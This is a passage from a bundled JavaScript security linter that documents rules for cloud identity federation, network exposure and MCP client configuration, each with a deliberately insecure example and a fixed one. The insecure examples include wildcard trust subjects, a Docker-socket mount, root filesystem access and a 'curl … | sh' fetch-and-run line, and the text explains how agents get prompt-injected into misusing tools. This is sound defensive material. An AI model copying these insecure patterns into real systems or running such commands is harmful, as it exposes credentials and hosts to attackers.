    text: 'data "aws_iam_policy_document" "ci" {\n  statement {\n    actions = ["sts:AssumeRoleWithWebIdentity"]\n    principals {\n      type        = "Federated"\n      identifiers = ["arn:aws:iam::111122223333:oidc-provider/token.actions.githubusercontent.com"]\n    }\n    condition {\n      test     = "StringEquals"\n      variable = "token.actions.githubusercontent.com:sub"\n      values   = ["repo:acme/app:environment:production"]\n    }\n  }\n}\n'
   },
   good: {
    file: "main.tf",
    text: 'data "aws_iam_policy_document" "ci" {\n  statement {\n    actions = ["sts:AssumeRoleWithWebIdentity"]\n    principals {\n      type        = "Federated"\n      identifiers = ["arn:aws:iam::111122223333:oidc-provider/token.actions.githubusercontent.com"]\n    }\n    condition {\n      test     = "StringEquals"\n      variable = "token.actions.githubusercontent.com:aud"\n      values   = ["sts.amazonaws.com"]\n    }\n    condition {\n      test     = "StringEquals"\n      variable = "token.actions.githubusercontent.com:sub"\n      values   = ["repo:acme@1234/app@56789:environment:production"]\n    }\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/mixed-trust-levels.about.js
  const mixed_trust_levels_about_about = {
   summary: "One federated identity trusts subjects of different strength",
   why: "An identity is as strong as the weakest of its credentials. Reviewers of the production environment protect nothing when a branch, a pull request or the development environment gets a token of the same identity.",
   fix: "Use one identity for each level of trust: production behind an environment with reviewers, and everything else with another identity and fewer rights.",
   securitySeverity: 6,
   references: [ "https://docs.github.com/actions/how-tos/deploy/configure-and-manage-deployments/manage-environments", "https://learn.microsoft.com/entra/workload-id/workload-identity-federation-considerations" ],
   bad: {
    file: "main.tf",
    text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme@1234/app@56789:environment:production"\n}\n\nresource "azurerm_federated_identity_credential" "main" {\n  name                      = "main"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme@1234/app@56789:ref:refs/heads/main"\n}\n'
   },
   good: {
    file: "main.tf",
    text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme@1234/app@56789:environment:production"\n}\n\nresource "azurerm_federated_identity_credential" "main" {\n  name                      = "main"\n  user_assigned_identity_id = azurerm_user_assigned_identity.build.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme@1234/app@56789:ref:refs/heads/main"\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/mutable-google-subject.about.js
  const mutable_google_subject_about_about = {
   summary: "Google Cloud trusts a name that can be given up and taken by others",
   why: "A GitHub account or repository that is renamed or deleted leaves its name free. The next owner of the name then fits the condition and gets a token. The number of an owner or repository is never given twice.",
   fix: "Compare `repository_owner_id` or `repository_id` as well as, or instead of, the name. `gh api repos/OWNER/REPO --jq '.id, .owner.id'` prints both numbers.",
   securitySeverity: 3,
   references: [ "https://cloud.google.com/iam/docs/best-practices-for-using-workload-identity-federation", "https://cloud.google.com/iam/docs/workload-identity-federation-with-deployment-pipelines" ],
   bad: {
    file: "federate.sh",
    text: 'gcloud iam workload-identity-pools providers create-oidc github --location=global \\\n  --workload-identity-pool=ci --issuer-uri="https://token.actions.githubusercontent.com" \\\n  --attribute-mapping="google.subject=assertion.sub" \\\n  --attribute-condition="assertion.repository == \'acme/app\' && assertion.ref == \'refs/heads/main\'"\n'
   },
   good: {
    file: "federate.sh",
    text: 'gcloud iam workload-identity-pools providers create-oidc github --location=global \\\n  --workload-identity-pool=ci --issuer-uri="https://token.actions.githubusercontent.com" \\\n  --attribute-mapping="google.subject=assertion.sub" \\\n  --attribute-condition="assertion.repository_id == \'56789\' && assertion.ref == \'refs/heads/main\'"\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/needless-match.about.js
  const needless_match_about_about = {
   summary: "Flexible expression matches a text that has no wildcard",
   why: "In a flexible expression of Entra, `matches` reads `*` and `?` as wildcards and `eq` does not. With `matches`, the next person who edits the text opens the trust with one character and without noticing.",
   fix: "Use `eq`. `mcp-gatehouse lint --fix` does it.",
   securitySeverity: 2,
   references: [ "https://learn.microsoft.com/entra/workload-id/workload-identities-flexible-federated-identity-credentials" ],
   bad: {
    file: "federate.sh",
    text: 'az ad app federated-credential create --id "$APP_ID" --parameters @- <<\'EOF\'\n{\n  "name": "ci",\n  "issuer": "https://token.actions.githubusercontent.com",\n  "audiences": ["api://AzureADTokenExchange"],\n  "claimsMatchingExpression": {\n    "value": "claims[\'sub\'] matches \'repo:acme@1234/app@56789:environment:production\'",\n    "languageVersion": 1\n  }\n}\nEOF\n'
   },
   good: {
    file: "federate.sh",
    text: 'az ad app federated-credential create --id "$APP_ID" --parameters @- <<\'EOF\'\n{\n  "name": "ci",\n  "issuer": "https://token.actions.githubusercontent.com",\n  "audiences": ["api://AzureADTokenExchange"],\n  "claimsMatchingExpression": {\n    "value": "claims[\'sub\'] eq \'repo:acme@1234/app@56789:environment:production\'",\n    "languageVersion": 1\n  }\n}\nEOF\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/pull-request-subject.about.js
  const pull_request_subject_about_about = {
   summary: "Federated identity trusts workflows of pull requests",
   why: "A workflow that a pull request starts runs the code of the pull request, before anybody has reviewed it: build scripts, tests, the workflow file itself. With this subject all of that gets a token. Anyone who can push a branch to the repository, or take over one account that can, becomes the identity. It is an error where a workflow of this repository does log in so.",
   fix: "Give pull requests an identity of their own that can read at most what a plan needs, or none. Everything that writes belongs behind an environment with reviewers: `repo:acme/app:environment:production`.",
   securitySeverity: 7.5,
   references: [ "https://docs.github.com/actions/reference/security/oidc", "https://learn.microsoft.com/entra/workload-id/workload-identity-federation-create-trust" ],
   bad: {
    file: "main.tf",
    text: 'resource "azurerm_federated_identity_credential" "plan" {\n  name                      = "plan"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme/app:pull_request"\n}\n'
   },
   good: {
    file: "main.tf",
    text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme@1234/app@56789:environment:production"\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/unmatchable-subject.about.js
  const unmatchable_subject_about_about = {
   summary: "Federated subject or issuer is written so that no token ever matches",
   why: "Subjects and issuers are compared letter by letter, and a wrong one is created without any error. The job then fails with AADSTS700213, and what people do next is the danger: they add a wider credential, or go back to a client secret.",
   fix: "Put in the subject that the job really has: `mcp-gatehouse token` with `explain` prints it. Forms of GitHub: `repo:OWNER/REPO:environment:NAME`, `…:ref:refs/heads/BRANCH`, `…:ref:refs/tags/TAG`, `…:pull_request`.",
   securitySeverity: 3,
   references: [ "https://docs.github.com/actions/reference/security/oidc", "https://learn.microsoft.com/entra/workload-id/workload-identity-federation-considerations" ],
   bad: {
    file: "main.tf",
    text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme/app:refs/heads/main"\n}\n'
   },
   good: {
    file: "main.tf",
    text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme@1/app@2:ref:refs/heads/main"\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/unreviewed-branch-subject.about.js
  const unreviewed_branch_subject_about_about = {
   summary: "Federated identity trusts a branch that is pushed before any review",
   why: "A bot writes its branches with code that nobody has read yet, and a feature branch holds what its author pushed a minute ago. A workflow on such a branch runs that code, and with this subject it gets a token.",
   fix: "Trust a protected branch, or better an environment with reviewers: `repo:acme/app:environment:production`. Give a bot that needs access an identity of its own that can only read.",
   securitySeverity: 6,
   references: [ "https://docs.github.com/actions/how-tos/deploy/configure-and-manage-deployments/manage-environments", "https://docs.github.com/actions/reference/security/oidc" ],
   bad: {
    file: "main.tf",
    text: 'resource "azurerm_federated_identity_credential" "bot" {\n  name                      = "bot"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme/app:ref:refs/heads/renovate/all"\n}\n'
   },
   good: {
    file: "main.tf",
    text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme@1234/app@56789:environment:production"\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/wildcard-subject.about.js
  const wildcard_subject_about_about = {
   summary: "Federated identity trusts more workflows than one branch or environment",
   why: "A federated identity has no secret: the subject of the token is all that decides who becomes it. With a wildcard in a flexible expression of Entra, in `StringLike` of AWS, or in a condition of Google Cloud, or without any condition on the subject, a workflow that nobody has reviewed gets a token: on a branch that was pushed a minute ago, in a new repository, or in a repository of somebody else.",
   fix: "Name the one repository and the one environment (better) or branch: `repo:acme/app:environment:production`, compared with `eq` in Entra, with `StringEquals` in AWS, with `==` in Google Cloud. Give the environment reviewers and a rule on branches. For many repositories, make the condition on `job_workflow_ref` of one reviewed workflow, with its ref, together with the owner. One identity for each purpose is cheaper than one wide identity.",
   securitySeverity: 9,
   references: [ "https://learn.microsoft.com/entra/workload-id/workload-identities-flexible-federated-identity-credentials", "https://docs.github.com/actions/reference/security/oidc", "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_roles_create_for-idp_oidc.html", "https://cloud.google.com/iam/docs/workload-identity-federation-with-deployment-pipelines" ],
   bad: {
    file: "federate.sh",
    text: [ "az ad app federated-credential create --id \"$APP_ID\" --parameters @- <<'EOF'", "{", '  "name": "ci",', '  "issuer": "https://token.actions.githubusercontent.com",', '  "audiences": ["api://AzureADTokenExchange"],', '  "claimsMatchingExpression": {', "    \"value\": \"claims['sub'] matches 'repo:acme/*'\",", '    "languageVersion": 1', "  }", "}", "EOF", "" ].join("\n")
   },
   good: {
    file: "federate.sh",
    text: [ "az ad app federated-credential create --id \"$APP_ID\" --parameters @- <<'EOF'", "{", '  "name": "ci",', '  "issuer": "https://token.actions.githubusercontent.com",', '  "audiences": ["api://AzureADTokenExchange"],', '  "subject": "repo:acme@1234/app@56789:environment:production"', "}", "EOF", "" ].join("\n")
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/federation/about.js
  const federation_about_abouts = {
   "broad-subject": broad_subject_about_about,
   "ineffective-wildcard": ineffective_wildcard_about_about,
   "legacy-subject": legacy_subject_about_about,
   "loose-issuer": loose_issuer_about_about,
   "missing-audience": missing_audience_about_about,
   "mixed-trust-levels": mixed_trust_levels_about_about,
   "mutable-google-subject": mutable_google_subject_about_about,
   "needless-match": needless_match_about_about,
   "pull-request-subject": pull_request_subject_about_about,
   "unmatchable-subject": unmatchable_subject_about_about,
   "unreviewed-branch-subject": unreviewed_branch_subject_about_about,
   "wildcard-subject": wildcard_subject_about_about
  };
  var federation = __webpack_require__(10126);
  // CONCATENATED MODULE: ./build/shared/lint/rules/governance/open-network-rule.about.js
  const rule = source => `resource "azurerm_network_security_rule" "mcp" {\n  name                        = "mcp"\n  resource_group_name         = "rg-mcp"\n  network_security_group_name = "nsg-mcp"\n  priority                    = 100\n  direction                   = "Inbound"\n  access                      = "Allow"\n  protocol                    = "Tcp"\n  source_address_prefix       = "${source}"\n  source_port_range           = "*"\n  destination_address_prefix  = "*"\n  destination_port_range      = "8080"\n}\n`;
  const open_network_rule_about_about = {
   summary: "Network security rule lets the whole Internet in",
   why: "A server behind a gateway is protected by what the gateway checks: who calls, with which token, how often. A rule that lets `Internet`, `*` or `0.0.0.0/0` reach the port of the server itself leads past all of that, and one that opens a port for management is found by scanners within minutes. Ports 80 and 443 are a note: a gateway has to be reached, a server behind it has not. What is not known in the repository is never reported.",
   fix: "Name the source: the subnet of the gateway for the ports of servers, the subnet of Azure Bastion or a private network for management. Rules with a lower priority number count first, so a deny before the rule closes it as well.",
   securitySeverity: 8.6,
   references: [ "https://learn.microsoft.com/azure/virtual-network/network-security-groups-overview", "https://learn.microsoft.com/azure/security/fundamentals/network-best-practices" ],
   bad: {
    file: "network.tf",
    text: rule("Internet")
   },
   good: {
    file: "network.tf",
    text: rule("10.20.1.0/24")
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/governance/about.js
  const governance_about_abouts = {
   "open-network-rule": open_network_rule_about_about
  };
  var governance = __webpack_require__(80686);
  // CONCATENATED MODULE: ./build/shared/lint/rules/house/invalid-ignore.about.js
  const invalid_ignore_about_about = {
   summary: "An ignore has no reason, names no known rule or has ended",
   why: "An ignore is a decision that somebody else has to understand a year later. Without a reason, with a mistyped rule, or after the day on which it was to end, it silences nothing; this finding says why.",
   fix: "Write `mcp-gatehouse: ignore[rule-id] reason` in a comment on the line of the finding or alone on the line above; several rules are separated by commas. For an ignore of the configuration that has ended, fix the findings or give it a new day in `until`.",
   securitySeverity: 1,
   references: [],
   bad: {
    file: ".vscode/mcp.json",
    text: `{\n  "servers": {\n    "files": {\n      "command": "npx",\n      // mcp-gatehouse: ignore[root-filesystem]\n      "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "/"]\n    }\n  }\n}\n`
   },
   good: {
    file: ".vscode/mcp.json",
    text: `{\n  "servers": {\n    "files": {\n      "command": "npx",\n      // mcp-gatehouse: ignore[root-filesystem] runs in a container that holds only test data\n      "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "/"]\n    }\n  }\n}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/house/unreadable-file.about.js
  const unreadable_file_about_about = {
   summary: "A workflow, pipeline or MCP configuration cannot be read",
   why: "What cannot be parsed cannot be checked: a file that is broken for this tool may still be read by a more tolerant client, with everything in it. The search for known credentials ran over its text all the same.",
   fix: "Fix the syntax at the given place. A file that is not meant to be valid, such as a template, can be left out with `exclude` in the configuration.",
   securitySeverity: 4,
   references: [],
   bad: {
    file: ".mcp.json",
    text: '{"mcpServers": {"docs": {"url": "https://mcp.example.com/docs" }\n'
   },
   good: {
    file: ".mcp.json",
    text: '{"mcpServers": {"docs": {"url": "https://mcp.example.com/docs"}}}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/house/unused-ignore.about.js
  const unused_ignore_about_about = {
   summary: "An ignore silences nothing",
   why: "An ignore that outlives its finding waits for the next one: a new credential in the same place would be accepted unseen, with a reason that was written for something else.",
   fix: "Remove the ignore. If the finding has moved, move the comment with it: onto the same line, or alone onto the line above. Ignores of rules that did not run are not reported, nor are ignores of the configuration when only a part of the repository was linted.",
   securitySeverity: 1,
   references: [],
   bad: {
    file: ".vscode/mcp.json",
    text: `{\n  "servers": {\n    // mcp-gatehouse: ignore[root-filesystem] the container has nothing else\n    "docs": { "url": "https://mcp.example.com/docs" }\n  }\n}\n`
   },
   good: {
    file: ".vscode/mcp.json",
    text: `{\n  "servers": {\n    "docs": { "url": "https://mcp.example.com/docs" }\n  }\n}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/house/about.js
  const house_about_abouts = {
   "invalid-ignore": invalid_ignore_about_about,
   "unreadable-file": unreadable_file_about_about,
   "unused-ignore": unused_ignore_about_about
  };
  var house = __webpack_require__(92951);
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/auto-approved-tools.about.js
  const auto_approved_tools_about_about = {
   summary: "MCP tools are called without asking",
   why: "The question before a tool is called is the last point at which a person can see that a page or an issue has talked the model into something. A wildcard answers it for every tool of the server, those included that a later version adds. `enableAllProjectMcpServers` does so for every server that anyone puts into the project.",
   fix: "List the tools that only read, by name, and let the client ask for the others. A list of reading tools is only noted.",
   securitySeverity: 5.5,
   references: [ "https://modelcontextprotocol.io/specification/2025-06-18/server/tools", "https://genai.owasp.org/llmrisk/llm062025-excessive-agency/" ],
   bad: {
    file: ".roo/mcp.json",
    text: '{\n  "mcpServers": {\n    "tracker": {"command": "npx", "args": ["-y", "tracker-mcp@1.2.3"], "alwaysAllow": ["*"]}\n  }\n}\n'
   },
   good: {
    file: ".roo/mcp.json",
    text: '{\n  "mcpServers": {\n    "tracker": {"command": "npx", "args": ["-y", "tracker-mcp@1.2.3"], "alwaysAllow": []}\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/broad-filesystem.about.js
  const broad_filesystem_about_about = {
   summary: "MCP server has access to a home, to a folder of credentials or to a parent of the workspace",
   why: "A home folder holds SSH keys, cloud profiles, browser data and the tokens of every other tool; a parent of the workspace holds the other repositories. Folders such as `~/.ssh`, `~/.aws` or `~/.config` hold the keys themselves. A server that works on one project needs none of them. `Documents`, `Desktop` and `Downloads` are only noted.",
   fix: "Name the folder of the project: `.`, `${workspaceFolder}` or a path inside it. A folder that servers are meant to have can be named in `filesystem-roots` of the configuration.",
   securitySeverity: 6.5,
   references: [ "https://modelcontextprotocol.io/specification/2025-06-18/client/roots" ],
   bad: {
    file: ".cursor/mcp.json",
    text: '{\n  "mcpServers": {\n    "files": {\n      "command": "npx",\n      "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "${userHome}"]\n    }\n  }\n}\n'
   },
   good: {
    file: ".cursor/mcp.json",
    text: '{\n  "mcpServers": {\n    "files": {\n      "command": "npx",\n      "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "${workspaceFolder}"]\n    }\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/config-printed.about.js
  const config_printed_about_about = {
   summary: "A CI job prints or publishes an MCP configuration with secrets",
   why: "The CI system masks a secret only in the form in which it knows it. Inside of JSON it may be escaped, cut or encoded, and then the log shows it to everyone who may read the run. An artifact is not masked at all.",
   fix: "Do not print the file. To check it, print only the names: `jq '.mcpServers | keys'`. Better, write references into it and no secrets.",
   securitySeverity: 6.5,
   references: [ "https://docs.github.com/en/actions/reference/security/secure-use#using-secrets", "https://learn.microsoft.com/azure/devops/pipelines/process/set-secret-variables" ],
   bad: {
    file: "azure-pipelines.yml",
    text: `trigger: none\npool: {vmImage: ubuntu-latest}\nsteps:\n  - bash: |\n      cat > mcp.json << EOF\n      {"mcpServers": {"crm": {"type": "http", "url": "https://mcp.example.com/mcp",\n        "headers": {"Authorization": "Bearer $CRM_TOKEN"}}}}\n      EOF\n      cat mcp.json\n    env:\n      CRM_TOKEN: $(crmToken)\n`
   },
   good: {
    file: "azure-pipelines.yml",
    text: `trigger: none\npool: {vmImage: ubuntu-latest}\nsteps:\n  - bash: |\n      cat > mcp.json << 'EOF'\n      {"mcpServers": {"crm": {"type": "http", "url": "https://mcp.example.com/mcp",\n        "headers": {"Authorization": "Bearer \${CRM_TOKEN}"}}}}\n      EOF\n      cat mcp.json\n    env:\n      CRM_TOKEN: $(crmToken)\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/config-written-in-script.about.js
  const config_written_in_script_about_about = {
   summary: "A CI step writes secrets into the configuration of an MCP client",
   why: "The secret is put into a file as text: it stays on a self-hosted runner, goes into an artifact or a cache with the folder, and is read by every later step. In a JSON string it has another form than the one that the CI system masks, so printing the file shows it. On a command line every process of the machine sees it.",
   fix: "Quote the here-document (`<<'EOF'`) and write a reference of the client (`${NAME}`); hand the secret to the step that starts the client in `env:`. The client puts it in itself, and nothing is written.",
   securitySeverity: 6,
   references: [ "https://docs.github.com/en/actions/reference/security/secure-use#using-secrets", "https://code.claude.com/docs/en/mcp" ],
   bad: {
    file: ".github/workflows/agent.yml",
    text: `on: workflow_dispatch\npermissions: {}\njobs:\n  agent:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          CRM_TOKEN: \${{ secrets.CRM_TOKEN }}\n        run: |\n          cat > "$RUNNER_TEMP/mcp.json" << EOF\n          {"mcpServers": {"crm": {"type": "http", "url": "https://mcp.example.com/mcp",\n            "headers": {"Authorization": "Bearer $CRM_TOKEN"}}}}\n          EOF\n          claude -p "Summarise" --mcp-config "$RUNNER_TEMP/mcp.json"\n`
   },
   good: {
    file: ".github/workflows/agent.yml",
    text: `on: workflow_dispatch\npermissions: {}\njobs:\n  agent:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          CRM_TOKEN: \${{ secrets.CRM_TOKEN }}\n        run: |\n          cat > "$RUNNER_TEMP/mcp.json" << 'EOF'\n          {"mcpServers": {"crm": {"type": "http", "url": "https://mcp.example.com/mcp",\n            "headers": {"Authorization": "Bearer \${CRM_TOKEN}"}}}}\n          EOF\n          claude -p "Summarise" --mcp-config "$RUNNER_TEMP/mcp.json"\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/credential-in-arguments.about.js
  const credential_in_arguments_about_about = {
   summary: "A credential is handed to an MCP server as an argument",
   why: "Arguments of a process are no secret: every user of the machine sees them in the list of processes, and crash reports, audit logs and monitoring keep them. That holds for a reference too, once the client has put its value in.",
   fix: "Hand the credential over in the environment: most servers that take `--api-key` also read a variable such as `API_KEY`. For a container name the variable alone (`-e API_KEY`) and set it in `env`.",
   securitySeverity: 5,
   references: [ "https://cwe.mitre.org/data/definitions/214.html" ],
   bad: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "search": {\n      "command": "npx",\n      "args": ["-y", "search-mcp@1.4.0", "--api-key", "${SEARCH_API_KEY}"]\n    }\n  }\n}\n'
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "search": {\n      "command": "npx",\n      "args": ["-y", "search-mcp@1.4.0"],\n      "env": {"API_KEY": "${SEARCH_API_KEY}"}\n    }\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/gateway-bypass.about.js
  const gateway_bypass_about_about = {
   summary: "MCP server is not reached through an allowed gateway",
   why: "The gateway checks who calls, limits how often and records every call. A server that is reached beside it has none of this: its calls are in no audit log, and a personal key takes the place of an identity. The rule looks only when the configuration of this project names the gateways (`gateways`).",
   fix: "Put the server behind the gateway and give the gateway's address here. A server that may stand beside it can be named in `servers` of the configuration.",
   securitySeverity: 6,
   references: [ "https://learn.microsoft.com/azure/api-management/mcp-server-overview" ],
   bad: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "crm": {"type": "http", "url": "https://crm.example.com/mcp"}\n  }\n}\n'
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "crm": {"type": "http", "url": "https://mcp.acme.com/crm"}\n  }\n}\n'
   },
   config: 'gateways: ["https://mcp.acme.com"]\n'
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/host-mount.about.js
  const host_mount_about_about = {
   summary: "The container of an MCP server has the host",
   why: "A container keeps a server away from the machine only as far as nothing is handed in. The socket of the container engine, `--privileged`, the host's root or a whole home folder undo all of it: who controls the server controls the host. The entry still looks contained.",
   fix: "Mount the one folder that the server works on, read-only where reading is enough, and leave out the socket and `--privileged`. A server that manages containers needs a host of its own.",
   securitySeverity: 8.8,
   references: [ "https://docs.docker.com/engine/security/#docker-daemon-attack-surface", "https://cwe.mitre.org/data/definitions/250.html" ],
   bad: {
    file: ".mcp.json",
    text: `{\n  "mcpServers": {\n    "files": {\n      "command": "docker",\n      "args": ["run", "-i", "--rm", "-v", "/var/run/docker.sock:/var/run/docker.sock", "mcp/files@sha256:${"4b1d".repeat(16)}"]\n    }\n  }\n}\n`
   },
   good: {
    file: ".mcp.json",
    text: `{\n  "mcpServers": {\n    "files": {\n      "command": "docker",\n      "args": ["run", "-i", "--rm", "-v", "\${PWD}/docs:/docs:ro", "mcp/files@sha256:${"4b1d".repeat(16)}"]\n    }\n  }\n}\n`
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/insecure-transport.about.js
  const insecure_transport_about_about = {
   summary: "MCP server is reached without encryption",
   why: "Over `http://` anyone on the way reads the token and what the tools return, and can put in answers of their own, which the model takes for the server's. The addresses of the own machine and of containers on it are left alone.",
   fix: "Use `https://`. A server in the own network can stand behind the gateway, which terminates TLS.",
   securitySeverity: 6,
   references: [ "https://modelcontextprotocol.io/specification/2025-06-18/basic/transports", "https://cwe.mitre.org/data/definitions/319.html" ],
   bad: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "crm": {"type": "http", "url": "http://mcp.example.com/mcp"}\n  }\n}\n'
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "crm": {"type": "http", "url": "https://mcp.example.com/mcp"}\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/root-filesystem.about.js
  const root_filesystem_about_about = {
   summary: "MCP server has access to a root of the file system",
   why: "A server that may read `/`, a drive or all homes hands every key, token and document on the machine to whatever the model is talked into. A prompt in an issue or a web page is enough: no exploit is needed, reading files is what the server is for.",
   fix: "Give the server the one folder it works on: `.`, `${workspaceFolder}` or a path inside the workspace. For a container, mount that folder and nothing above it, read-only where reading is enough. A folder that servers are meant to have can be named in `filesystem-roots` of the configuration.",
   securitySeverity: 8.8,
   references: [ "https://modelcontextprotocol.io/specification/2025-06-18/client/roots", "https://cwe.mitre.org/data/definitions/732.html" ],
   bad: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "files": {\n      "command": "npx",\n      "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "/"]\n    }\n  }\n}\n'
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "files": {\n      "command": "npx",\n      "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "."]\n    }\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/secrets-service-access.about.js
  const secrets_service_access_about_about = {
   summary: "MCP server reaches a secrets manager with a personal key",
   why: "With such a server the model can read, and be talked into handing on, every secret that the key opens. The key is a person's or a service account's and lives long; the manager's log shows its owner, not the agent.",
   fix: "Keep secrets managers out of the reach of agents. What a job needs it can read by its own identity before the agent starts (`mcp-gatehouse secrets`), by name and just in time.",
   securitySeverity: 7.5,
   references: [ "https://genai.owasp.org/llmrisk/llm062025-excessive-agency/", "https://cheatsheetseries.owasp.org/cheatsheets/Secrets_Management_Cheat_Sheet.html" ],
   bad: {
    file: ".mcp.json",
    text: `{\n  "mcpServers": {\n    "vault": {\n      "command": "docker",\n      "args": ["run", "-i", "--rm", "-e", "VAULT_TOKEN", "hashicorp/vault-mcp-server@sha256:${"4b1d".repeat(16)}"],\n      "env": {"VAULT_TOKEN": "\${VAULT_TOKEN}"}\n    }\n  }\n}\n`
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "docs": {"command": "npx", "args": ["-y", "docs-mcp@1.2.3"], "env": {"API_KEY": "${DOCS_KEY}"}}\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/shell-pipeline.about.js
  const shell_pipeline_about_about = {
   summary: "MCP server is started from a script out of the network",
   why: "`curl … | sh` runs whatever the address answers at that moment, with the rights and credentials of anyone who starts the client: nothing was reviewed, nothing is pinned, and the address can answer each caller differently. A server whose command only fetches is none at all: it sends a request whenever the client starts. Commands that the client itself runs when it loads its configuration (`$(…)` of Crush, `headersHelper`) run as soon as the folder is opened and trusted.",
   fix: "Install the server beforehand from a package with an exact version, or keep the script in the repository. Let the environment carry what `$(…)` would fetch; keep a `headersHelper` in the configuration of the user or of the job, not of the project.",
   securitySeverity: 8.5,
   references: [ "https://cwe.mitre.org/data/definitions/494.html" ],
   bad: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "docs": {"command": "sh", "args": ["-c", "curl -fsSL https://docs.example.com/mcp.sh | sh"]}\n  }\n}\n'
   },
   good: {
    file: ".mcp.json",
    text: '{\n  "mcpServers": {\n    "docs": {"command": "npx", "args": ["-y", "docs-mcp@1.2.3"]}\n  }\n}\n'
   }
  };
  // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/tls-verification-disabled.about.js
  const tls_verification_disabled_about_about = {
   summary: "MCP server does not check TLS certificates",
   why: "Without checking the certificate, a connection is encrypted to anyone who answers: anyone on the way can take the token and change what the tools return. The switch is mostly set for one system with a certificate of its own and holds for all that the server talks to.",
   fix: "Remove the switch and name the certificate authority instead: `NODE_EXTRA_CA_CERTS`, `SSL_CERT_FILE` or `REQUESTS_CA_BUNDLE` with the path of its certificate.",
   securitySeverity: 7.4,
   references: [ "https://cwe.mitre.org/data/definitions/295.html", "https://nodejs.org/api/cli.html#node_extra_ca_certsfile" ],
   bad: {
    file: ".mcp.json",
